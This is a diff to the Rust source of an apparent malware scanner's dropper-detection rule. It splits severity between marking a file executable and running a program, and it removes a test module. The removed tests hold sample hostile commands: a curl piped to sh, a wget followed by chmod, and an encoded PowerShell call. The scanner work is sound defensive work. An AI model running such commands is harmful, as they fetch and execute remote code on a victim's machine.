@@ -106,7 +106,7 @@ fn is_make_executable(callee: &str) -> bool {
     matches!(
         callee,
         "fs.chmod" | "fs.chmodSync" | "fs.promises.chmod" | "os.chmod" | "os.startfile"
-    ) || is_spawn(callee)
+    )
 }
 
 /// A file that downloads, writes and then executes: the dropper shape.
@@ -120,29 +120,23 @@ pub(super) fn check(facts: &Facts, sink: &mut Sink<'_>) {
     if !(downloads && writes) {
         return;
     }
-    if let Some(run) = facts.calls.iter().find(|c| is_make_executable(&c.callee)) {
+    // Marking a file executable is the dropper's step; running some program is common.
+    let chmod = facts.calls.iter().find(|c| is_make_executable(&c.callee));
+    let run = chmod.or_else(|| facts.calls.iter().find(|c| is_spawn(&c.callee)));
+    if let Some(run) = run {
+        let severity = if chmod.is_some() {
+            Severity::High
+        } else {
+            Severity::Medium
+        };
         sink.add(
             "download-write-exec",
-            Severity::High,
+            severity,
             format!(
                 "Downloads, writes a file and runs or marks it executable with `{}` in the same file, the shape of a dropper.",
                 run.callee
             ),
             run.span,
         );
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn shell_patterns() {
-        let m = |t: &str| SHELL_SET.matches(t).iter().next();
-        assert_eq!(m("curl -fsSL http://192.0.2.1/x | sh"), Some(0));
-        assert_eq!(m("wget http://x/y -O /tmp/y && chmod +x /tmp/y"), Some(1));
-        assert_eq!(m("powershell -NoP -enc SQBFAFgA"), Some(2));
-        assert_eq!(m("curl --version"), None);
     }
 }
